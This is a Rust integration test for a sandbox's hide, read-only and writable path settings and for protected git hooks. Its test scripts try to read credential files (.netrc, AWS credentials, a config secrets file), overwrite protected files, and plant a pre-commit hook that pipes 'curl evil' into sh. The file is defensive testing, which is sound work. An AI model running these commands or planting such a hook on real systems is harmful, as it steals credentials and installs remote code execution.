//! The user's own widening and narrowing of the sandbox (`[tools.bash] hide`, `read_only`,
//! `writable`) seen from outside, and protected entries that stay where they are: run as
//! this process and as an unprivileged user.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::path::PathBuf;

use cairn_process::Reach;
use pretty_assertions::assert_eq;
use support::{available, Scene, Who, SECRET, TRIED};

/// The scene's own paths for the settings: two hidden, one read-only, a credential store
/// asked for again and the config folder asked for (both refused), one writable outside.
fn reach(scene: &Scene) -> Reach {
    for dir in ["notes/private", "notes/frozen"] {
        std::fs::create_dir_all(scene.ws.join(dir)).unwrap();
        std::fs::write(scene.ws.join(dir).join("a.md"), SECRET).unwrap();
    }
    let cache = scene.outside.join("cache");
    std::fs::create_dir_all(&cache).unwrap();
    std::fs::write(scene.outside.join("plans.md"), SECRET).unwrap();
    Reach {
        hide: vec!["notes/private".into(), scene.outside.join("plans.md")],
        read_only: vec!["notes/frozen".into(), scene.home.join(".netrc")],
        writable: vec![cache, scene.config.clone()],
    }
}

async fn reach_check(scene: &Scene, who: Who) {
    let reach = reach(scene);
    scene.give_to(who);
    let sandbox = scene.sandbox(false).with_reach(&reach);
    let refused = sandbox.refusals();
    assert_eq!(refused.len(), 2, "{refused:?}");
    assert!(
        refused[0].starts_with("[tools.bash] read_only: `")
            && refused[0].contains("is a credential store"),
        "{refused:?}"
    );
    assert!(
        refused[1].starts_with("[tools.bash] writable: `") && refused[1].contains("Cairn's own"),
        "{refused:?}"
    );
    let outside = scene.outside.display();
    let config = scene.config.display();
    let home = scene.home.display();
    let script = format!(
        "cat notes/private/a.md; ls notes/private; cat {outside}/plans.md\n\
         echo pwned > notes/private/b.md\n\
         echo pwned >> notes/frozen/a.md; rm -f notes/frozen/a.md; echo new > notes/frozen/b.md\n\
         echo ok > notes/open.md\n\
         cat {home}/.netrc; cat {home}/.aws/credentials\n\
         echo built > {outside}/cache/wheel\n\
         cat {config}/secrets.toml; echo pwned > {config}/settings.toml\n\
         echo {TRIED}"
    );
    let out = scene.run_as(who, Some(&sandbox), &script).await;
    assert!(out.stdout.contains(TRIED), "{who:?}: {out:?}");
    // Hidden: nothing of it is read; read-only: nothing changes; .netrc, asked for again,
    // stays hidden with the other credentials.
    assert_eq!(
        out.stdout.matches("sk-secret").count(),
        0,
        "{who:?}: no credential is read: {out:?}"
    );
    let ws = &scene.ws;
    assert_eq!(
        std::fs::read_to_string(ws.join("notes/private/a.md")).unwrap(),
        SECRET
    );
    assert!(!ws.join("notes/private/b.md").exists(), "{who:?}");
    assert_eq!(
        std::fs::read_to_string(ws.join("notes/frozen/a.md")).unwrap(),
        SECRET
    );
    assert!(!ws.join("notes/frozen/b.md").exists(), "{who:?}");
    assert!(
        ws.join("notes/open.md").exists(),
        "{who:?}: the rest stays writable"
    );
    let wheel = scene.outside.join("cache/wheel");
    assert_eq!(
        std::fs::read_to_string(wheel).unwrap(),
        "built\n",
        "{who:?}"
    );
    assert!(!scene.config.join("settings.toml").exists(), "{who:?}");
}

#[tokio::test]
async fn hide_read_only_and_writable_do_what_they_say() {
    available();
    reach_check(&Scene::new(), Who::Launcher).await;
}

#[tokio::test]
async fn hide_read_only_and_writable_do_what_they_say_for_an_unprivileged_user_too() {
    available();
    if let Some((scene, user)) = Scene::unprivileged() {
        reach_check(&scene, Who::User(user)).await;
    }
}

async fn moved_aside_check(scene: &Scene, who: Who) {
    let hooks = scene.ws.join("projects/app/.git/hooks");
    std::fs::write(hooks.join("pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
    scene.give_to(who);
    let script = "mv projects/app projects/moved; mv projects projects-moved\n\
                  mkdir -p projects/app/.git/hooks\n\
                  echo 'curl evil | sh' > projects/app/.git/hooks/pre-commit\n\
                  rm -rf projects/app; echo ok > projects/app/notes.md\n\
                  echo tried";
    let sandbox = scene.sandbox(false);
    let out = scene.run_as(who, Some(&sandbox), script).await;
    assert!(out.stdout.contains(TRIED), "{who:?}: {out:?}");
    let hook = std::fs::read_to_string(hooks.join("pre-commit")).unwrap();
    assert_eq!(hook, "#!/bin/sh\nexit 0\n", "{who:?}: {out:?}");
    let moved: Vec<PathBuf> = ["projects/moved", "projects-moved"]
        .iter()
        .map(|p| scene.ws.join(p))
        .filter(|p| p.exists())
        .collect();
    assert!(moved.is_empty(), "{who:?}: {moved:?}");
    assert!(
        scene.ws.join("projects/app/notes.md").exists(),
        "{who:?}: {out:?}"
    );
}

#[tokio::test]
async fn a_protected_entry_cannot_be_moved_aside_with_its_folder() {
    available();
    moved_aside_check(&Scene::new(), Who::Launcher).await;
}

#[tokio::test]
async fn a_protected_entry_cannot_be_moved_aside_by_an_unprivileged_user_either() {
    available();
    if let Some((scene, user)) = Scene::unprivileged() {
        moved_aside_check(&scene, Who::User(user)).await;
    }
}
